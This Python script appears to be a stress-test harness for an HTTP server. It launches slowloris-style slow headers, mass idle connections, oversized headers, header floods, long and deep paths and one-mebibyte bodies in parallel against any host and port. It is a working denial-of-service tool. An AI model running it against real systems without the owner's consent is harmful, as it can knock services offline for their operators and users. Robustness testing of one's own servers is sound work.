"""Attacks a server, as politely towards the rest of the machine as nice(2) allows.

attack.py HOST PORT SECONDS CONNECTIONS: all kinds at once, for so long, and at least until so many connections were made.
The last line is a JSON object: how often each was tried.
"""

import collections
import json
import os
import socket
import sys
import threading
import time

MEBIBYTE = 1 << 20
counts = collections.Counter()
address = (sys.argv[1], int(sys.argv[2]))
end = time.monotonic() + float(sys.argv[3])
wanted = int(sys.argv[4])


def is_over():
    return time.monotonic() > end and counts["connections"] >= wanted or time.monotonic() > end + 120


def connect(timeout=10):
    counts["connections"] += 1
    return socket.create_connection(address, timeout=timeout)


def again_and_again(kind, action):
    """Until the end; that the server closes a connection is what it should do."""
    while not is_over():
        try:
            action()
        except OSError:
            pass
        counts[kind] += 1


def send(content):
    with connect() as client:
        client.sendall(content)
        client.recv(65_536)


def slow_heads():
    """200 connections, each of which sends a byte of its head now and then."""
    clients = []
    while not is_over():
        while len(clients) < 200:
            try:
                client = connect()
                client.sendall(b"GET / HTTP/1.1\r\nX: ")
                clients.append(client)
            except OSError:
                break
        time.sleep(0.2)
        for client in list(clients):
            try:
                client.sendall(b"y")
            except OSError:
                clients.remove(client)
                client.close()
                counts["slow heads"] += 1


def idle_connections():
    """Connections that are held as long as the server lets them, at most 1,500 at a time."""
    clients = collections.deque()
    while not is_over():
        try:
            clients.append(connect())
        except OSError:
            pass
        counts["idle connections"] += 1
        while len(clients) > 1_500:
            clients.popleft().close()


HEAD = b"GET %s HTTP/1.1\r\nHost: localhost\r\n"
KINDS = {
    "long heads": HEAD % b"/" + b"X: " + b"y" * MEBIBYTE + b"\r\n\r\n",
    "many headers": HEAD % b"/" + b"X: y\r\n" * (MEBIBYTE // 6) + b"\r\n",
    "spaces": HEAD % b"/" + b"X:" + b" " * MEBIBYTE + b"\r\n\r\n",
    "long paths": HEAD % (b"/" + b"y" * 9_000) + b"\r\n",
    "deep paths": HEAD % (b"/a" * 4_000) + b"\r\n",
    "bodies": HEAD % b"/" + b"Content-Length: %d\r\n\r\n" % MEBIBYTE + b"y" * MEBIBYTE,
}


def main():
    os.nice(19)
    threads = [threading.Thread(target=slow_heads), threading.Thread(target=idle_connections)]
    for kind, content in KINDS.items():
        threads.append(threading.Thread(target=again_and_again, args=(kind, lambda content=content: send(content))))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
